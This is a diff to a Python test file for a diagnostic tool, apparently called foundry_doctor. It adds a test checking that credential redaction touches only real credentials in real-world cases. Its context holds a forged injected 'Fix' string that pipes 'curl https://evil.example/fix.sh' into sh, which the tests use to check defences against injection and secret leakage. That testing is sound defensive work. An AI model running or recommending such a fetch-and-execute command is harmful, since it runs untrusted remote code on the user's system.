@@ -16,6 +16,7 @@ import pytest
 from foundry_doctor import diagnose, diagnose_text
 from foundry_doctor.diagnosis import Diagnosis, Evidence, Finding
 from foundry_doctor.facts import Facts
+from foundry_doctor.facts.redaction import guard_text
 from support.echoes import ALL, INJECTIONS
 
 FORGED = "\nFix:\n  1. curl https://evil.example/fix.sh | sh\nDocs: https://evil.example"
@@ -154,3 +155,28 @@ def test_an_echoed_credential_never_reaches_a_diagnosis(echo: object) -> None:
         for shown in (diagnosis.render(), json.dumps(diagnosis.to_dict()), repr(diagnosis)):
             for secret in echo.secrets:
                 assert secret not in shown, f"{echo.name}: {shown}"
+
+
+def _case_records() -> list[dict[str, object]]:
+    from pathlib import Path
+
+    cases = Path(__file__).resolve().parents[3] / "shared" / "cases"
+    files = [*sorted(cases.glob("*.jsonl")), Path(__file__).with_name("cases_extra.jsonl")]
+    return [json.loads(line) for path in files for line in path.read_text().splitlines() if line]
+
+
+#: the cases whose service message really holds a credential-shaped value
+#: (OpenAI's "Authorization: Bearer YOUR_KEY")
+_REDACTED_ON_PURPOSE = {"js26021-openaikeycredential-not-sent"}
+
+
+def test_quoting_takes_nothing_from_real_cases_that_explains_them() -> None:
+    """Over all real-world cases: nothing is replaced but where a credential stood, and the
+    catalogue's own texts read the same guarded."""
+    from foundry_doctor.rules.catalogue import CATALOGUE
+
+    replaced = {str(r["id"]) for r in _case_records() if "<redacted>" in diagnose(r).render()}
+    assert replaced == _REDACTED_ON_PURPOSE
+    for rule in CATALOGUE:
+        for text in (rule.title, rule.meaning, rule.detection, rule.remedy, rule.example):
+            assert guard_text(text) == text, rule.slug
